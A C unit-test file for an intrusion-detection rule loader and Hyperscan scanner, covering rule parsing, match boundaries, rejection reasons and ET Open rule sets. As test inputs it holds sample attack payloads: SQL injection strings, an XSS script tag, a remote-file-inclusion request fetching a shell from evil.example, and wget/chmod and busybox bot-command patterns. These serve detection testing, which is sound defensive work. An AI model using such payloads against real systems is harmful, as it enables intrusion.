/* SPDX-License-Identifier: BSD-3-Clause */
/*
 * test_rules.c — the payload rule loader and Hyperscan scan (dataplane/rules.h):
 * matches and non-matches on crafted payloads (literal, nocase, |hex|, pcre, offset/depth
 * and distance/within at their exact boundaries, multi-content AND, negated content,
 * dsize, protocol and port constraints), every rejection reason with its line number,
 * commented rules, the shipped conf/rules/obscura.rules and the ET Open subset in
 * tests/data; the real ET Open files under ../shared/data when present.  The parser alone
 * (common/rules_parse.h, what the control plane links: no Hyperscan) against the
 * compiled database: the same rules, except the one Hyperscan refuses.
 */
#include <errno.h>
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <glob.h>
#include <pthread.h>
#include <cmocka.h>

#include "dataplane/rules.h"
#include "../fixtures/test_main.h"

struct logbuf {
	unsigned n;
	unsigned line[64];
	char reason[64][512];
};

static void log_cb(void *arg, const char *file, unsigned line, const char *reason)
{
	struct logbuf *lb = arg;

	(void)file;
	if (lb && lb->n < 64) {
		lb->line[lb->n] = line;
		snprintf(lb->reason[lb->n], sizeof(lb->reason[0]), "%s", reason);
		lb->n++;
	}
}

static struct obs_rules *load_text(const char *text, struct logbuf *lb)
{
	struct obs_rules_src s = { "test.rules", text };
	char err[256];
	struct obs_rules *r = obs_rules_load(&s, 1, log_cb, lb, err, sizeof(err));

	if (!r)
		fprintf(stderr, "load failed: %s\n", err);
	/* without a log buffer the caller expects every rule to load */
	if (r && !lb)
		assert_int_equal(obs_rules_stats(r)->n_rejected, 0);
	return r;
}

struct hits {
	unsigned n;
	uint32_t sid[16];
};

static void on_match(void *arg, uint32_t idx, const struct obs_rule_info *ri)
{
	struct hits *h = arg;

	(void)idx;
	if (h->n < 16)
		h->sid[h->n++] = ri->sid;
}

/* sids matched by payload p (proto, dport) as a bitmask of (sid - base) */
static unsigned scan(struct obs_rules *r, const char *p, size_t len, uint8_t proto,
                     uint16_t dport, uint32_t base)
{
	hs_scratch_t *s = NULL;
	struct hits h = { 0 };
	unsigned mask = 0;
	int n;

	assert_int_equal(obs_rules_scratch_clone(r, &s), 0);
	n = obs_rules_scan(r, s, (const uint8_t *)p, (uint32_t)len, proto, dport, on_match, &h);
	assert_true(n >= 0);
	assert_int_equal((unsigned)n, h.n);
	for (unsigned i = 0; i < h.n; i++) {
		assert_true(h.sid[i] >= base && h.sid[i] < base + 32);
		assert_false(mask & (1u << (h.sid[i] - base)));   /* each rule once */
		mask |= 1u << (h.sid[i] - base);
	}
	obs_rules_scratch_free(s);
	return mask;
}

#define S(str) str, sizeof(str) - 1

static void test_literal_nocase_hex(void **state)
{
	struct logbuf lb = { 0 };
	struct obs_rules *r = load_text(
		"alert udp any any -> any any (msg:\"a\"; content:\"Hello\"; sid:100;)\n"
		"alert udp any any -> any any (msg:\"b\"; content:\"hello\"; nocase; sid:101;)\n"
		"alert udp any any -> any any (msg:\"c\"; content:\"|00 01|AB|ff|\"; sid:102;)\n"
		"alert udp any any -> any any (msg:\"d\"; content:\"a\\\"b\\;c\"; sid:103;)\n", &lb);

	(void)state;
	assert_non_null(r);
	assert_int_equal(lb.n, 0);
	assert_int_equal(obs_rules_stats(r)->n_accepted, 4);
	assert_int_equal(scan(r, S("xxHelloxx"), 17, 1, 100), 0x3);
	assert_int_equal(scan(r, S("xxHELLOxx"), 17, 1, 100), 0x2);
	assert_int_equal(scan(r, S("xxhellxx"), 17, 1, 100), 0x0);
	assert_int_equal(scan(r, S("\x00\x01" "AB\xff"), 17, 1, 100), 0x4);
	assert_int_equal(scan(r, S("\x00\x01" "ab\xff"), 17, 1, 100), 0x0);
	assert_int_equal(scan(r, S("a\"b;c"), 17, 1, 100), 0x8);
	obs_rules_free(r);
}

static void test_offset_depth(void **state)
{
	/* offset 2 depth 4: "ABC" must start at >= 2 and end at <= 6 */
	struct obs_rules *r = load_text(
		"alert udp any any -> any any (content:\"ABC\"; offset:2; depth:4; sid:200;)\n"
		"alert udp any any -> any any (content:\"ABC\"; depth:3; sid:201;)\n", NULL);

	(void)state;
	assert_non_null(r);
	assert_int_equal(scan(r, S("ABCxxxxx"), 17, 1, 200), 0x2);  /* start 0 */
	assert_int_equal(scan(r, S("xABCxxxx"), 17, 1, 200), 0x0);  /* start 1 */
	assert_int_equal(scan(r, S("xxABCxxx"), 17, 1, 200), 0x1);  /* start 2, end 5 */
	assert_int_equal(scan(r, S("xxxABCxx"), 17, 1, 200), 0x1);  /* start 3, end 6 */
	assert_int_equal(scan(r, S("xxxxABCx"), 17, 1, 200), 0x0);  /* end 7 > 6 */
	obs_rules_free(r);
}

static void test_distance_within(void **state)
{
	/* B starts >= end(A) + 2 and ends <= end(A) + 2 + 5 (Suricata) */
	struct obs_rules *r = load_text(
		"alert udp any any -> any any (content:\"AA\"; content:\"BB\"; distance:2; within:5; sid:300;)\n"
		"alert udp any any -> any any (content:\"AA\"; content:\"BB\"; distance:0; sid:301;)\n"
		"alert udp any any -> any any (content:\"AA\"; depth:2; content:\"bb\"; nocase; within:4; sid:302;)\n",
		NULL);

	(void)state;
	assert_non_null(r);
	assert_int_equal(scan(r, S("AAxBB"), 17, 1, 300), 0x6);     /* gap 1 < distance */
	assert_int_equal(scan(r, S("AAxxBB"), 17, 1, 300), 0x7);    /* gap 2: all three */
	assert_int_equal(scan(r, S("AAxxxBB"), 17, 1, 300), 0x3);   /* gap 3 > 302's within */
	assert_int_equal(scan(r, S("AAxxxxxBB"), 17, 1, 300), 0x3); /* B ends at 9 = 2+2+5 */
	assert_int_equal(scan(r, S("AAxxxxxxBB"), 17, 1, 300), 0x2);/* B ends at 10 > 9 */
	assert_int_equal(scan(r, S("BBxxAA"), 17, 1, 300), 0x0);    /* order matters */
	assert_int_equal(scan(r, S("xAAxxBB"), 17, 1, 300), 0x3);   /* AA past depth 2 */
	/* any AA occurrence may anchor the chain */
	assert_int_equal(scan(r, S("AAxxxxxxxAAxxBB"), 17, 1, 300), 0x3);
	obs_rules_free(r);
}

static void test_multi_content_and_negation(void **state)
{
	struct obs_rules *r = load_text(
		"alert tcp any any -> any any (content:\"wget\"; content:\"chmod\"; sid:400;)\n"
		"alert tcp any any -> any any (content:\"busybox\"; content:!\"HTTP/\"; sid:401;)\n"
		"alert tcp any any -> any any (content:\"x1\"; pcre:\"/y[0-9]+z/\"; content:\"q\"; sid:402;)\n",
		NULL);

	(void)state;
	assert_non_null(r);
	assert_int_equal(scan(r, S("chmod 777; wget x"), 6, 1, 400), 0x1);   /* any order */
	assert_int_equal(scan(r, S("wget only"), 6, 1, 400), 0x0);
	assert_int_equal(scan(r, S("/bin/busybox MIRAI"), 6, 1, 400), 0x2);
	assert_int_equal(scan(r, S("GET /busybox HTTP/1.1"), 6, 1, 400), 0x0);
	assert_int_equal(scan(r, S("q y123z x1"), 6, 1, 400), 0x4);
	assert_int_equal(scan(r, S("q yz x1"), 6, 1, 400), 0x0);
	obs_rules_free(r);
}

static void test_pcre(void **state)
{
	struct obs_rules *r = load_text(
		"alert udp any any -> any any (pcre:\"/^GET \\/[a-z]+\\.php/i\"; sid:500;)\n"
		"alert udp any any -> any any (pcre:\"/a.b/s\"; sid:501;)\n"
		"alert udp any any -> any any (pcre:\"/xyz/A\"; sid:502;)\n", NULL);

	(void)state;
	assert_non_null(r);
	assert_int_equal(scan(r, S("get /index.php"), 17, 1, 500), 0x1);
	assert_int_equal(scan(r, S(" GET /index.php"), 17, 1, 500), 0x0);
	assert_int_equal(scan(r, S("a\nb"), 17, 1, 500), 0x2);
	assert_int_equal(scan(r, S("xyzabc"), 17, 1, 500), 0x4);
	assert_int_equal(scan(r, S("axyz"), 17, 1, 500), 0x0);
	obs_rules_free(r);
}

static void test_proto_ports_dsize(void **state)
{
	struct obs_rules *r = load_text(
		"alert tcp any any -> any 80 (content:\"P\"; sid:600;)\n"
		"alert udp any any -> any [53,5060:5070] (content:\"P\"; sid:601;)\n"
		"alert tcp any any -> any !22 (content:\"P\"; sid:602;)\n"
		"alert ip any any -> any any (content:\"P\"; sid:603;)\n"
		"alert tcp any any -> $HOME_NET $HTTP_PORTS (content:\"P\"; sid:604;)\n"
		"alert udp any any -> any [1000:,!2000] (content:\"P\"; sid:605;)\n"
		"alert icmp any any -> any any (content:\"P\"; dsize:<4; sid:606;)\n"
		"alert udp any any -> any any (content:\"P\"; dsize:2<>5; sid:607;)\n", NULL);

	(void)state;
	assert_non_null(r);
	assert_int_equal(scan(r, S("P"), 6, 80, 600), 0x1 | 0x4 | 0x8 | 0x10);
	assert_int_equal(scan(r, S("P"), 6, 22, 600), 0x8);
	assert_int_equal(scan(r, S("P"), 17, 53, 600), 0x2 | 0x8);
	assert_int_equal(scan(r, S("P"), 17, 5070, 600), 0x2 | 0x8 | 0x20);
	assert_int_equal(scan(r, S("P"), 17, 5071, 600), 0x8 | 0x20);
	assert_int_equal(scan(r, S("P"), 17, 2000, 600), 0x8);
	assert_int_equal(scan(r, S("P"), 17, 999, 600), 0x8);
	assert_int_equal(scan(r, S("xxP"), 1, 0, 600), 0x8 | 0x40);
	assert_int_equal(scan(r, S("xxxP"), 1, 0, 600), 0x8);             /* dsize 4 not < 4 */
	assert_int_equal(scan(r, S("xxP"), 17, 9, 600), 0x8 | 0x80);      /* 3 in (2,5) */
	assert_int_equal(scan(r, S("xxxxP"), 17, 9, 600), 0x8);           /* 5 not < 5 */
	obs_rules_free(r);
}

static void test_rejections(void **state)
{
	struct logbuf lb = { 0 };
	const char *text =
		"# a comment\n"
		"#alert tcp any any -> any any (content:\"x\"; sid:1;)\n"            /* 2 commented */
		"# alert udp any any -> any any (content:\"x\"; sid:2;)\n"           /* 3 commented */
		"drop tcp any any -> any any (content:\"x\"; sid:3;)\n"              /* 4 action */
		"alert http any any -> any any (content:\"x\"; sid:4;)\n"            /* 5 protocol */
		"alert tcp $HOME_NET any -> any any (content:\"x\"; sid:5;)\n"       /* 6 address */
		"alert tcp any 80 -> any any (content:\"x\"; sid:6;)\n"              /* 7 port */
		"alert tcp any any -> any $NOPE_PORTS (content:\"x\"; sid:7;)\n"     /* 8 port */
		"alert tcp any any -> any any (flow:established,to_server; content:\"x\"; sid:8;)\n" /* 9 */
		"alert tcp any any -> any any (content:\"x\"; http_uri; sid:9;)\n"   /* 10 option */
		"alert tcp any any -> any any (content:\"x\"; threshold: type limit; sid:10;)\n" /* 11 */
		"alert tcp any any -> any any (content:\"ab\"; depth:1; sid:11;)\n"  /* 12 modifier */
		"alert tcp any any -> any any (content:\"a\"; content:\"b\"; distance:-1; sid:12;)\n" /* 13 */
		"alert tcp any any -> any any (pcre:\"/a/R\"; sid:13;)\n"            /* 14 pcre */
		"alert tcp any any -> any any (pcre:\"/(a)\\1/\"; sid:14;)\n"        /* 15 pcre (hs) */
		"alert tcp any any -> any any (content:!\"x\"; sid:15;)\n"           /* 16 no_pattern */
		"alert tcp any any -> any any (content:\"x\"; rev:1;)\n"             /* 17 sid */
		"alert tcp any any -> any any (content:\"x\"; sid:16;)\n"            /* 18 ok */
		"alert tcp any any -> any any (content:\"y\"; sid:16;)\n"            /* 19 sid dup */
		"alert tcp any any -> any any (content:\"|4g|\"; sid:17;)\n"         /* 20 syntax */
		"alert tcp any any -> any any (content:\"x\"; sid:18\n"              /* 21 syntax */
		"alert tcp any any (content:\"x\"; sid:19;)\n"                       /* 22 syntax */
		"alert tcp any any -> any any (nocase; content:\"x\"; sid:20;)\n"    /* 23 modifier */
		"alert tcp any any -> any any (content:\"x\"; \\\n"                  /* 24-25 joined */
		"  sid:21;)\n"
		"alert icmp any any -> any 80 (content:\"x\"; sid:22;)\n";           /* 26 port */
	static const struct { unsigned line; const char *why; } want[] = {
		{ 4, "action" }, { 5, "protocol" }, { 6, "address" }, { 7, "port" }, { 8, "port" },
		{ 9, "option" }, { 10, "option" }, { 11, "option" }, { 12, "modifier" },
		{ 13, "modifier" }, { 14, "pcre" }, { 15, "pcre" }, { 16, "no_pattern" },
		{ 17, "sid" }, { 19, "sid" }, { 20, "syntax" }, { 21, "syntax" }, { 22, "syntax" },
		{ 23, "modifier" }, { 26, "port" },
	};
	struct obs_rules *r = load_text(text, &lb);
	const struct obs_rules_stats *st;

	(void)state;
	assert_non_null(r);
	st = obs_rules_stats(r);
	for (unsigned i = 0; i < lb.n; i++)
		printf("  %s\n", lb.reason[i]);
	assert_int_equal(st->n_commented, 2);
	assert_int_equal(st->n_accepted, 2);    /* sids 16 and 21 */
	assert_int_equal(st->n_rejected, sizeof(want) / sizeof(want[0]));
	assert_int_equal(lb.n, sizeof(want) / sizeof(want[0]));
	/* the Hyperscan rejection (line 15) is reported after parsing: sort by line */
	for (unsigned i = 0; i < sizeof(want) / sizeof(want[0]); i++) {
		unsigned j;
		char tag[64];

		snprintf(tag, sizeof(tag), "test.rules:%u: %s:", want[i].line, want[i].why);
		for (j = 0; j < lb.n; j++)
			if (lb.line[j] == want[i].line && strstr(lb.reason[j], tag))
				break;
		if (j == lb.n)
			fail_msg("no rejection '%s'", tag);
	}
	assert_int_equal(st->rejected[OBS_REJ_PCRE], 2);
	assert_int_equal(st->rejected[OBS_REJ_SYNTAX], 3);
	assert_int_equal(obs_rules_find_sid(r, 21) >= 0, 1);
	assert_int_equal(obs_rules_info(r, (uint32_t)obs_rules_find_sid(r, 21))->line, 24);
	obs_rules_free(r);
}

static void test_empty_and_garbage(void **state)
{
	struct logbuf lb = { 0 };
	struct obs_rules *r = load_text("", NULL);
	hs_scratch_t *s = NULL;
	struct obs_rules_src bad = { "/nonexistent/x.rules", NULL };
	char err[256];

	(void)state;
	assert_non_null(r);
	assert_int_equal(obs_rules_count(r), 0);
	assert_int_equal(obs_rules_scratch_clone(r, &s), 0);
	assert_null(s);
	assert_int_equal(obs_rules_scan(r, s, (const uint8_t *)"x", 1, 6, 80, NULL, NULL), 0);
	obs_rules_free(r);
	r = load_text("\x01\x02 garbage (((\n)))\n;;;\nalert\n", &lb);
	assert_non_null(r);
	assert_int_equal(obs_rules_stats(r)->n_rejected, 4);
	obs_rules_free(r);
	assert_null(obs_rules_load(&bad, 1, NULL, NULL, err, sizeof(err)));
	assert_non_null(strstr(err, "/nonexistent/x.rules"));
}

static void test_shipped_rules(void **state)
{
	char path[1024];
	struct obs_rules_src s = { path, NULL };
	struct logbuf lb = { 0 };
	char err[256];
	struct obs_rules *r;
	const char *src = getenv("OBS_SRCDIR");
	static const struct { const char *p; uint8_t proto; uint16_t dport; uint32_t sid; uint8_t cat; } c[] = {
		{ "OPTIONS sip:100@1.2.3.4 SIP/2.0\r\n", 17, 5060, 1000001, OBS_CAT_SCAN },
		{ "M-SEARCH * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\n", 17, 1900, 1000003, OBS_CAT_SCAN },
		{ "GET /?id=1 union all select password from users HTTP/1.1", 6, 80, 1000101, OBS_CAT_SQLI },
		{ "GET /?id=1' or '1'='1 HTTP/1.1", 6, 80, 1000102, OBS_CAT_SQLI },
		{ "GET /?q=<SCRIPT>alert(1)</script> HTTP/1.1", 6, 80, 1000201, OBS_CAT_XSS },
		{ "GET /index.php?page=http://evil.example/shell.txt HTTP/1.1", 6, 80, 1000301, OBS_CAT_RFI },
		{ "enable\r\nsystem\r\nshell\r\n/bin/busybox ECCHI\r\n", 6, 23, 1000501, OBS_CAT_ATTACK },
	};

	(void)state;
	snprintf(path, sizeof(path), "%s/conf/rules/obscura.rules", src ? src : ".");
	r = obs_rules_load(&s, 1, log_cb, &lb, err, sizeof(err));
	assert_non_null(r);
	for (unsigned i = 0; i < lb.n; i++)
		printf("  %s\n", lb.reason[i]);
	assert_int_equal(obs_rules_stats(r)->n_rejected, 0);
	assert_true(obs_rules_stats(r)->n_accepted >= 10);
	for (unsigned i = 0; i < sizeof(c) / sizeof(c[0]); i++) {
		hs_scratch_t *sc = NULL;
		struct hits h = { 0 };
		int n, k;

		assert_int_equal(obs_rules_scratch_clone(r, &sc), 0);
		n = obs_rules_scan(r, sc, (const uint8_t *)c[i].p, (uint32_t)strlen(c[i].p), c[i].proto,
		                   c[i].dport, on_match, &h);
		assert_true(n >= 1);
		for (k = 0; k < n && h.sid[k] != c[i].sid; k++)
			;
		if (k == n)
			fail_msg("payload %u: sid %u did not match", i, c[i].sid);
		assert_int_equal(obs_rules_info(r, (uint32_t)obs_rules_find_sid(r, c[i].sid))->category,
		                 c[i].cat);
		/* the same payload on a port outside the rule's set matches nothing of it */
		h.n = 0;
		n = obs_rules_scan(r, sc, (const uint8_t *)c[i].p, (uint32_t)strlen(c[i].p), c[i].proto,
		                   7, on_match, &h);
		for (k = 0; k < n; k++)
			assert_int_not_equal(h.sid[k], c[i].sid);
		obs_rules_scratch_free(sc);
	}
	obs_rules_free(r);
}

static void test_et_subset(void **state)
{
	char path[1024];
	struct obs_rules_src s = { path, NULL };
	char err[256];
	struct obs_rules *r;
	const struct obs_rules_stats *st;
	const char *src = getenv("OBS_SRCDIR");

	(void)state;
	snprintf(path, sizeof(path), "%s/tests/data/et-open-subset.rules", src ? src : ".");
	r = obs_rules_load(&s, 1, NULL, NULL, err, sizeof(err));
	assert_non_null(r);
	st = obs_rules_stats(r);
	printf("  et-open-subset: %u lines, %u accepted, %u rejected, %u commented\n",
	       st->n_lines, st->n_accepted, st->n_rejected, st->n_commented);
	/* 282 rules in the file (tests/data), by construction */
	assert_int_equal(st->n_accepted + st->n_rejected + st->n_commented, 282);
	assert_int_equal(st->n_accepted, 16);
	assert_int_equal(st->n_commented, 79);
	assert_int_equal(obs_rules_count(r), st->n_accepted);
	for (uint32_t i = 0; i < obs_rules_count(r); i++) {
		const struct obs_rule_info *ri = obs_rules_info(r, i);

		assert_true(ri->sid >= 2000000 && ri->sid <= 2799999);
		assert_true(ri->category < OBS_CAT_N);
	}
	obs_rules_free(r);
}

static void test_et_real(void **state)
{
	glob_t g;
	struct obs_rules_src s[64];
	unsigned n = 0;
	char err[256];
	struct obs_rules *r;
	const struct obs_rules_stats *st;
	unsigned active = 0;

	(void)state;
	if (glob("/work/shared/data/ids-rules/et-open/rules/*.rules", 0, NULL, &g) != 0) {
		printf("  ET Open files not present: skipped\n");
		skip();
	}
	for (size_t i = 0; i < g.gl_pathc && n < 64; i++) {
		FILE *f = fopen(g.gl_pathv[i], "r");
		char line[70000];

		s[n].name = g.gl_pathv[i];
		s[n].text = NULL;
		n++;
		while (f && fgets(line, sizeof(line), f))
			if (strncmp(line, "alert ", 6) == 0 || strncmp(line, "drop ", 5) == 0)
				active++;
		if (f)
			fclose(f);
	}
	r = obs_rules_load(s, n, NULL, NULL, err, sizeof(err));
	assert_non_null(r);
	st = obs_rules_stats(r);
	printf("  ET Open (%u files): %u active rules, %u accepted, %u rejected, %u commented, "
	       "%u patterns, db %llu bytes, scratch %llu bytes\n", n, active, st->n_accepted,
	       st->n_rejected, st->n_commented, st->n_patterns,
	       (unsigned long long)st->db_bytes, (unsigned long long)st->scratch_bytes);
	for (unsigned k = 0; k < OBS_REJ_N; k++)
		printf("    rejected %-10s %u\n", obs_rules_rej_name(k), st->rejected[k]);
	assert_int_equal(st->n_accepted + st->n_rejected, active);
	assert_true(st->n_accepted > 0);
	assert_true(st->n_commented > 0);
	obs_rules_free(r);
	globfree(&g);
}

/* Parse alone vs parse + compile on one input: every compiled rule is in the parse with
 * the same description, the parse has exactly `hs_refused` more (Hyperscan's pcre
 * rejections), and every other count agrees. */
static void parse_vs_load(const struct obs_rules_src *src, unsigned n, uint32_t hs_refused)
{
	char err[256];
	struct obs_rule_list *l = obs_rules_parse(src, n, NULL, NULL, err, sizeof(err));
	struct obs_rules *r = obs_rules_load(src, n, NULL, NULL, err, sizeof(err));
	const struct obs_rules_stats *ps, *cs;

	assert_non_null(l);
	assert_non_null(r);
	ps = obs_rule_list_stats(l);
	cs = obs_rules_stats(r);
	assert_int_equal(ps->n_files, cs->n_files);
	assert_int_equal(ps->n_lines, cs->n_lines);
	assert_int_equal(ps->n_commented, cs->n_commented);
	assert_int_equal(ps->n_accepted, cs->n_accepted + hs_refused);
	assert_int_equal(ps->n_rejected + hs_refused, cs->n_rejected);
	for (unsigned k = 0; k < OBS_REJ_N; k++)
		assert_int_equal(ps->rejected[k] + (k == OBS_REJ_PCRE ? hs_refused : 0),
		                 cs->rejected[k]);
	assert_int_equal(ps->n_patterns, 0);            /* nothing compiled */
	assert_int_equal(ps->db_bytes, 0);
	assert_int_equal(obs_rule_list_count(l), ps->n_accepted);
	for (uint32_t i = 0; i < obs_rules_count(r); i++) {
		const struct obs_rule_info *ci = obs_rules_info(r, i), *pi;
		int k = obs_rule_list_find_sid(l, ci->sid);

		assert_true(k >= 0);
		pi = obs_rule_list_info(l, (uint32_t)k);
		assert_int_equal(pi->rev, ci->rev);
		assert_int_equal(pi->category, ci->category);
		assert_int_equal(pi->proto, ci->proto);
		assert_int_equal(pi->line, ci->line);
		assert_string_equal(pi->msg, ci->msg);
		assert_string_equal(pi->file, ci->file);
	}
	obs_rule_list_free(l);
	obs_rules_free(r);
}

static void test_parse_alone(void **state)
{
	const char *src = getenv("OBS_SRCDIR");
	char p1[1024], p2[1024];
	struct obs_rules_src files[2] = { { p1, NULL }, { p2, NULL } };
	struct obs_rules_src refused = { "hs.rules",
		"alert tcp any any -> any any (msg:\"ok\"; content:\"abc\"; sid:1;)\n"
		"alert tcp any any -> any any (msg:\"lookbehind\"; pcre:\"/(?<=ab)c/\"; sid:2;)\n"
		"alert udp any any -> any 53 (msg:\"SCAN x\"; content:\"q\"; nocase; sid:3;)\n" };
	struct obs_rules_src bad = { "/nonexistent/x.rules", NULL };
	char err[256];

	(void)state;
	snprintf(p1, sizeof(p1), "%s/conf/rules/obscura.rules", src ? src : ".");
	snprintf(p2, sizeof(p2), "%s/tests/data/et-open-subset.rules", src ? src : ".");
	parse_vs_load(files, 2, 0);
	parse_vs_load(&refused, 1, 1);
	assert_null(obs_rules_parse(&bad, 1, NULL, NULL, err, sizeof(err)));
	assert_non_null(strstr(err, "/nonexistent/x.rules"));
}

/* obs_rules_set: one scratch per worker; workers scan the same database at once */
struct worker_arg {
	const struct obs_rules_set *set;
	uint32_t id;
	unsigned matches;
};

static void *worker_scan(void *p)
{
	struct worker_arg *a = p;
	static const char sqli[] = "GET /?id=1 union select 1 HTTP/1.1";
	static const char clean[] = "GET / HTTP/1.1";

	for (int i = 0; i < 20000; i++) {
		int n = obs_rules_scan(a->set->rules, a->set->scratch[a->id], (const uint8_t *)sqli,
		                       sizeof(sqli) - 1, 6, 80, NULL, NULL);
		int m = obs_rules_scan(a->set->rules, a->set->scratch[a->id], (const uint8_t *)clean,
		                       sizeof(clean) - 1, 6, 80, NULL, NULL);

		if (n == 1 && m == 0)
			a->matches++;
	}
	return NULL;
}

static void test_rules_set(void **state)
{
	char err[256];
	struct obs_rules *r = load_text(
		"alert tcp any any -> any 80 (content:\"union\"; nocase; content:\"select\"; "
		"nocase; distance:0; sid:900;)\n", NULL);
	struct obs_rules_set *set;
	pthread_t t[4];
	struct worker_arg a[4];

	(void)state;
	assert_non_null(r);
	set = obs_rules_set_new(r, 4, err, sizeof(err));
	assert_non_null(set);
	assert_int_equal(set->n_workers, 4);
	for (uint32_t w = 0; w < 4; w++) {
		assert_non_null(set->scratch[w]);
		a[w] = (struct worker_arg){ set, w, 0 };
		assert_int_equal(pthread_create(&t[w], NULL, worker_scan, &a[w]), 0);
	}
	for (uint32_t w = 0; w < 4; w++) {
		pthread_join(t[w], NULL);
		assert_int_equal(a[w].matches, 20000);
	}
	obs_rules_set_free(set);
	/* an empty database: no scratch, scans match nothing */
	set = obs_rules_set_new(load_text("", NULL), 2, err, sizeof(err));
	assert_non_null(set);
	assert_null(set->scratch[0]);
	assert_int_equal(obs_rules_scan(set->rules, set->scratch[0], (const uint8_t *)"x", 1, 6, 80,
	                                NULL, NULL), 0);
	obs_rules_set_free(set);
	obs_rules_set_free(NULL);
}

#define TESTS(T) T(test_literal_nocase_hex) T(test_offset_depth) T(test_distance_within) \
	T(test_multi_content_and_negation) T(test_pcre) T(test_proto_ports_dsize) \
	T(test_rejections) T(test_empty_and_garbage) T(test_shipped_rules) T(test_et_subset) \
	T(test_et_real) T(test_parse_alone) T(test_rules_set)
OBS_TEST_MAIN(TESTS, NULL, NULL)
